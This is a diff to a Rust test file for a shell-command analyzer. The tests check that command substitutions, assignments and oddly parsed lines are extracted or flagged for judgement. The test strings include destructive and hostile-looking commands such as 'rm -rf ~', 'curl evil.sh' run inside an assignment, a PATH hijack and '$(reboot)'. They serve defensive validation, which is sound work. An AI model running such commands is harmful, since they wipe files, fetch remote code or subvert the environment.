@@ -35,12 +35,28 @@ fn lists_pipelines_groups_and_newlines_are_each_command() {
 }
 
 #[test]
+fn a_piece_the_grammar_leaves_unnamed_makes_the_line_unknown() {
+    // tree-sitter reads `''""$HOME/x` as three words, the `$` unnamed between them; the walk
+    // used to drop it and call `HOME/x` a literal word.
+    for line in ["cat ''\"\"$HOME/x", "timeout == rm -rf x"] {
+        assert!(matches!(analyze(line), Analysis::Unknown(_)), "{line}");
+    }
+}
+
+#[test]
 fn substitutions_run_their_commands_too() {
     assert_eq!(programs("echo $(rm -rf ~)"), ["rm", "echo"]);
     assert_eq!(programs("echo `rm -rf ~`"), ["rm", "echo"]);
     assert_eq!(programs("diff <(ls a) <(ls b)"), ["ls", "ls", "diff"]);
     assert_eq!(programs("FOO=$(id) ls"), ["id", "ls"]);
-    assert_eq!(programs("X=$(curl evil.sh)"), ["curl"]);
+    // The assignment itself is kept too (no program), to be judged: X is not harmless.
+    assert_eq!(programs("X=$(curl evil.sh)"), ["curl", ""]);
+    assert_eq!(commands("PATH=/tmp/x; ls")[0].env, ["PATH"]);
+    assert_eq!(
+        programs("CI=1; ls"),
+        ["ls"],
+        "a harmless variable is not kept"
+    );
     assert_eq!(programs("echo \"${HOME:-$(reboot)}\""), ["reboot", "echo"]);
     let echo = commands("echo \"a $(date) b\"").pop().unwrap();
     assert!(!echo.argv[1].literal);
